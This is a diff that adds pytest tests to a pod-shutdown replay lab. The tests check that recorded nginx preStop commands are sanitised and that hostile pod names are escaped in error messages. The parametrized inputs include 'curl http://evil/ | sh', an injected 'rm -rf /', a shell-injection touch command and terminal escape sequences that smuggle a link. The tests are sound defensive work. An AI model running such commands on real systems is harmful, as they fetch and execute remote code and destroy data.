@@ -170,3 +170,45 @@ def test_learning_the_article_recording():
     assert fixed["stop_signal.nginx"] == "SIGQUIT"
     assert fixed["prestop.nginx"].startswith("sleep ")
     assert fixed["grace_s"] >= float(fixed["prestop.nginx"].split()[1]) + 2
+
+
+def _with_prestop(tmp_path: Path, command: str) -> Path:
+    def edit(e: dict) -> dict:
+        if e.get("event") == "pod_seen":
+            detail = json.loads(e["detail"])
+            detail["prestop"] = {"nginx": command}
+            e["detail"] = json.dumps(detail)
+        return e
+    return _rewrite(DATA / "article", tmp_path / "rec", lambda e: True, edit)
+
+
+@pytest.mark.parametrize("command", ["sh -c 'touch /tmp/owned; nginx -s quit'", "curl http://evil/ | sh",
+                                     "nginx -s quit; rm -rf /", "sleep 99999999"])
+def test_a_recorded_prestop_is_never_run_as_recorded_unless_it_is_known(tmp_path, command):
+    """The recording's preStop is tenant data (or anyone's, copied): the lab runs only sleep, nginx -s
+    quit|stop and kill -SIG 1 as they are; anything else becomes a sleep of its recorded length, and
+    lengths are capped so a replay cannot run for hours."""
+    from sigtrace.lab.replay import learn_recording
+    from sigtrace.lab.replay.learn import MAX_PRESTOP_S
+    learned = learn_recording(_with_prestop(tmp_path, command), None)
+    value = learned.settings["prestop.nginx"].value
+    assert value is None or value.startswith("sleep "), value
+    if value:
+        assert float(value.split()[1]) <= MAX_PRESTOP_S
+    assert command.split()[0] not in (value or "") or command.startswith("sleep")
+
+
+def test_known_prestops_are_kept(tmp_path):
+    from sigtrace.lab.replay import learn_recording
+    for command in ("nginx -s quit", "nginx  -s   stop", "kill -QUIT 1"):
+        d = tmp_path / command.replace(" ", "_")
+        d.mkdir()
+        learned = learn_recording(_with_prestop(d, command), None)
+        assert learned.settings["prestop.nginx"].value == " ".join(command.split())
+
+
+def test_errors_quote_hostile_names_as_escapes(sigtrace_cli, tmp_path):
+    p = sigtrace_cli("lab", "--replay", str(DATA / "article"), "--pod", "x\x1b]8;;http://evil\x07\x1b[2J")
+    assert p.returncode != 0 and "\x1b" not in p.stderr and "\\x1b" in p.stderr, repr(p.stderr)
+    p = sigtrace_cli("lab", "--prestop", "nginx=sh -c 'unbalanced", "--output", str(tmp_path / "o"))
+    assert p.returncode != 0 and "check its quotes" in p.stderr and "Traceback" not in p.stderr, p.stderr
